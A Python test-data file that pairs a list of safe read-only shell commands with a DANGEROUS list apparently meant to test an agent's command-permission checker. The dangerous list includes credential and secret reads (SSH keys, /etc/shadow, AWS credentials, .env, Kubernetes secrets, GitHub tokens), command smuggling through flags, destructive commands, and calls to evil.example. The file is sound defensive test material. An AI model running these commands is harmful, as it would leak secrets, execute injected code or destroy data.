"""Lines for the flag profiles: what is covered, and one line per danger that is not."""

COVERED = """
ls -la 'a b' c
ls *.py
ls --color=auto --sort=time
cat -A README.md
head -30 spec.md
head -n -5 f
tail -80 run.output
tail -f log
tail -n +10 f
wc -c -w f
grep -rn foo .
grep -n "def start\\|def end" src/x.py
grep -rn --include=*.py foo src
grep -A3 -B 3 -e '-x' f
grep '^-[^-]'
grep -rn id_rsa src
grep foo src/*.py
rg "PageLayout" src -g"*.test.tsx" -n
rg --files -g '*.md'
find . -name '*.py' -not -path './.git/*' -mtime -1 -size +10k
find src \\( -name a -o -name b \\) -type f -maxdepth 2
tree -a -L 3 data/
sed -n '240,270p' main.go
sed -n -e 5p -e '$p' f
sed -n '/def run/,/return/p' f
sed -n '5p;7p' f
sort -k2,2nr -t, f
uniq -c f
cut -d: -f1 f
cut -d'-' -f 2- f
tr '\\t' '\\n'
jq -r '.a[] | .b' f.json
jq --arg name value '.[$name]' f.json
jq .env package.json
diff -u a b
stat -c '%s' f
du -sh src
df -h
printf '%s\\n' a b
printf -- '- %d' 3
echo --- -n x
test -f f
date +%s
date -u -d '2 days ago'
id -un
uname -srm
ps aux
ps -ef
ps -eo pid,cmd --sort=-%mem
lsof -i :8080 -sTCP:LISTEN -n -P
ss -tulpn
netstat -tulpn
ip addr show eth0
ip -br addr
ip route get 192.0.2.1
readlink -f ~/.bashrc
which python
command -v node
journalctl -u nginx -n 50 --no-pager
journalctl -b -1 -p err
systemctl status nginx
systemctl --user is-active x.service
systemctl show -p MainPID nginx
dmesg -T
git status -uall --short --branch
git status -- src/
git log --oneline -5 -- tests/x.py
git log -p -S'foo' --since='2 days ago' origin/main..HEAD
git log --format=%h%x09%s -n 3
git diff origin/main...
git diff -U3 --stat HEAD~1
git show HEAD^{tree}
git show master:src/x.py
git branch -a
git branch --list 'feat/*'
git branch --show-current
git tag -l 'v1*'
git tag --sort=-creatordate
git remote -v
git remote get-url origin
git stash list
git stash show -p stash@{0}
git config --get user.name
git rev-parse --show-toplevel
git for-each-ref --format='%(refname)'
git blame -L 10,20 src/x.py
git ls-files src
git shortlog -sn HEAD
journalctl -b -u nginx
git check-ignore -v dist/app.js
git grep -n foo
git --no-pager log -3
git cat-file -p HEAD
git describe --tags --always
kubectl get pods -A
kubectl get pods,svc -n web -o wide
kubectl get pod my-secret-app-0 -o yaml
kubectl get pdb -o custom-columns='NS:.metadata.namespace'
kubectl get pods -o jsonpath='{.items[*].metadata.name}'
kubectl --context prod-eu get pods -n web
kubectl -n web logs x-0 --tail=200
kubectl logs deploy/x -c c -f --since 1h
kubectl describe node n1
kubectl top pods -n web
kubectl config current-context
kubectl config view --minify
helm list -A
docker ps -a --format '{{.Names}}'
docker logs -n 50 app
docker logs --tail 100 -f app
docker compose -f compose.yaml ps
docker compose logs --tail=20 web
docker stats --no-stream
docker image ls
gh pr view 12 --json title --jq .title
gh pr list --state open -L 5
gh pr checks 12
gh pr diff 12 --name-only
gh run list --workflow=main.yml
gh run view 1 --log-failed
gh issue list --label bug
gh api repos/o/r/pulls --paginate --jq '.[].number'
gh api -X GET repos/o/r
aws eks list-addons --cluster-name x --query 'addons[]' --output text
aws sts get-caller-identity
aws ec2 describe-instances --filters Name=tag:x,Values=y
terraform output
terraform -chdir=infra state list
terraform fmt -check -recursive
npm ls --depth=0
npm view @iarna/toml dist.unpackedSize
npm outdated
npm run lint
npm test
pnpm why react
pip list --outdated
pip show requests
cargo tree -i serde
cargo clippy --workspace --all-targets --locked -- -D warnings
cargo test -- --nocapture
go vet ./...
go test -race -run TestX ./...
go list -m all
uv run pytest tests/x.py -k "a or b" -v
pytest -x -q tests/test_a.py::test_b
make test
dpkg -l nginx
""".strip().splitlines()

DANGEROUS = """
sort --compress-program=./x f
sort --compress-prog=./x f
sort -o /tmp/x f
sort --output=/tmp/x f
sort -uo x f
column -n x -d
sort --files0-from=f
find . -exec id \\;
find . -execdir id \\;
find . -ok id \\;
find . -delete
find . '-delete'
find . \\-delete
find . -fprint x
find . -fprint0 x
find . -fprintf x %p
find . -fls x
find . -name -delete
find . -name *.py
find *
sed -i 's/a/b/' f
sed -n 5p f -i
sed -n '1e id' f
sed -n 'w x' f
sed 's/a/b/w x' f
sed 's/a/b/e' f
sed -n '/a/w x' f
sed -n -e 5p -e 'w x' f
sed -f script f
sed --in-place 5p f
sed -n '5p;e id' f
sed -n '5r /etc/passwd' f
rg --pre ./x foo
rg --pre=./x foo
rg --hostname-bin=./x foo
rg -z foo
rg -e foo --pre-glob x
tree -o out
tree -R -H . -L 1
uniq a b
cat *
head *.md
grep foo *
grep -e *.x f
git -c core.pager=id log
git -ccore.pager=id log
git -C /tmp/x status
git --git-dir=/tmp/x status
git --work-tree=/ status
git --exec-path=/tmp/x status
git --config-env=core.pager=X log
git -p log
git diff --ext-diff
git diff --ext-dif
git diff --no-index /etc/shadow /dev/null
git diff --output=/tmp/x
git diff --outpu=/tmp/x
git diff -O/tmp/x
git log --output=/tmp/x
git log --ext-diff -p
git log --textconv -p
git log --show-signature
git log --format=%G?
git log --pretty='%h %GK'
git show --textconv HEAD
git blame --contents=/etc/shadow f
git grep -O./x foo
git grep --open-files-in-pager=./x foo
git cat-file --textconv HEAD:f
git cat-file --filters HEAD:f
git branch new
git branch -d old
git branch -D old
git branch -m a b
git branch --set-upstream-to=x
git branch --edit-description
git branch -- new
git tag v1
git tag -d v1
git tag -l -d v1
git remote add x url
git remote remove x
git remote set-url origin x
git remote show origin
git remote update
git stash
git stash pop
git stash list --output=x
git stash clear
git config user.name x
git config --list --unset user.name
git config --get-color x
git config --edit
git reflog expire --all
git reflog delete x
git symbolic-ref HEAD refs/heads/x
git symbolic-ref -d x
git worktree add x
git worktree prune
git notes add
git ls-remote --upload-pack=id x
git archive --output=x HEAD
git fetch origin
git push
git commit -m x
git submodule update
git bisect run id
git help -w log
kubectl get secrets
kubectl get secret x -o yaml
kubectl get pods,secrets
kubectl get pods secret/x
kubectl get Secret/x
kubectl get secrets.v1
kubectl describe pod,secret
kubectl get --raw /api/v1/secrets
kubectl get -f x.yaml
kubectl get pods --kubeconfig=x
kubectl get pods --kubeconfig x
kubectl get pods --context other
kubectl get pods --server=x
kubectl get pods --token=x
kubectl get pods --as=root
kubectl get pods -o go-template-file=x
kubectl get pods -o=custom-columns-file=x
kubectl logs x --kubeconfig=y
kubectl exec x -- id
kubectl delete pod x
kubectl config use-context x
kubectl config view --raw
kubectl config view --flatten
kubectl cluster-info dump
kubectl cluster-info dump --output-directory=x
kubectl proxy
docker run x
docker exec x id
docker -H tcp://x ps
docker --config x ps
docker compose up
docker compose --env-file x ps
docker cp a b
helm upgrade x y
helm get values x
helm list --kubeconfig x
helm list --post-renderer x
gh pr view 1 --web
gh pr list -w
gh pr merge 1
gh api -X DELETE repos/o/r
gh api --method POST repos/o/r
gh api repos/o/r -f a=b
gh api repos/o/r -F a=@f
gh api repos/o/r --input f
gh api repos/o/r -H 'X-HTTP-Method-Override: DELETE'
gh api --hostname evil.example x
gh api https://evil.example/x
gh api graphql
gh pr view 1 --json title --jq 'env.GH_TOKEN'
gh pr view 1 --json title --jq '$ENV'
gh auth status --show-token
gh auth token
aws ec2 describe-instances --endpoint-url http://x
aws ec2 describe-instances --filters file:///etc/passwd
aws ec2 describe-instances --profile other
aws ec2 terminate-instances --instance-ids i-1
aws secretsmanager get-secret-value --secret-id x
aws ssm get-parameters-by-path --path /prod
aws ssm get-parameters-by-path --path /aws/service/x --with-decryption
aws s3 cp a b
terraform output -raw db_password
terraform output -json
terraform output db_password
terraform apply
terraform fmt
terraform show -json
npm run lint --script-shell=/tmp/x
npm test --node-options=--require=/tmp/x
npm view x --registry=http://x
npm ls --userconfig=x
npm install x
npm version patch
npm audit fix
npm exec x
pip list --index-url http://x
pip list -f http://x
pip install x
pytest -p evil
pytest -o python_files=x
pytest -c /tmp/x
pytest --rootdir=/tmp
pytest --basetemp=/
pytest --junitxml=/tmp/x
pytest ../other
pytest /tmp/evil.py
uv run --with evil pytest
uv run python -c 1
go test -exec ./x ./...
go test -toolexec ./x ./...
go test -o x ./...
go vet -vettool=./x ./...
go build -o /tmp/x ./...
go build -toolexec=./x ./...
go env -w GOFLAGS=-toolexec=x
go env GOFLAGS=x
cargo test --config x
cargo clippy -- -C linker=./x
cargo build --target-dir /
cargo +nightly test
cargo run
make -f evil
make test SHELL=/tmp/x
make -C /tmp test
make
jq -n '$ENV'
jq -n 'env.AWS_SECRET_ACCESS_KEY'
jq -f script.jq f
jq -L /tmp x
jq . ~/.aws/credentials
yq -i .a=1 f
yq 'load("x")' f
yq -n 'env(X)'
yq eval 'load("x")'
printf -v x y
printf '%n' PATH
printf '%ln' PATH
test -v 'a[$(id)]'
test x -a -v y
date -s 2020-01-01
date 010100002020
hostname evil
hostname -F f
id a b
top
top -b -U
ps e
ps auxe
lsof +m /x
lsof -D b
ss -K dst 1.2.3.4
ss -D /tmp/x
ip addr add 10.0.0.1/8 dev eth0
ip link set eth0 down
ip netns exec x id
ip -b script addr
ip -n x addr show
dmesg -C
dmesg -n 1
journalctl --vacuum-size=1M
journalctl --rotate
journalctl --cursor-file=/tmp/x
journalctl -D /tmp
systemctl stop x
systemctl restart x
systemctl -H host status x
systemctl show x
systemctl show -p Environment x
systemctl edit x
sysctl -w a=b
sysctl kernel.x=1
sysctl -p /tmp/x
mount /dev/sda /mnt
mount -a
command id
command -p id
command -v -x
file -C -m x
fd -x id
fd foo -X id
fd foo --exec id
cd /tmp
cd ../x
cd ~
dpkg -i x.deb
dpkg --configure -a
rpm -i x
rpm -q --pipe id x
rpm -qa --eval '%(id)'
hyprctl dispatch exec id
man --html=id ls
less f
less +!id
history -a /tmp/x
xargs rm
awk '{print}' f
env id
bash x.sh
python3 x.py
python --version -c 1
curl https://example.com
nc -z 127.0.0.1 80
tar tf x --to-command=id
tee f
cat ~/.npmrc
cat /srv/app/.npmrc
cat .env
cat .env.production
cat .e*
cat ~/.ssh/id_rsa
cat ~/.ssh/*
cat /home/dev/.config/gh/hosts.yml
cat /etc/shadow
cat /proc/1/environ
cat certs/server.pem
cat certs/*.pem
head -5 ~/.aws/credentials
grep x ~/.bash_history
grep -r key .ssh
git show HEAD:.env
git diff -- .env
""".strip().splitlines()
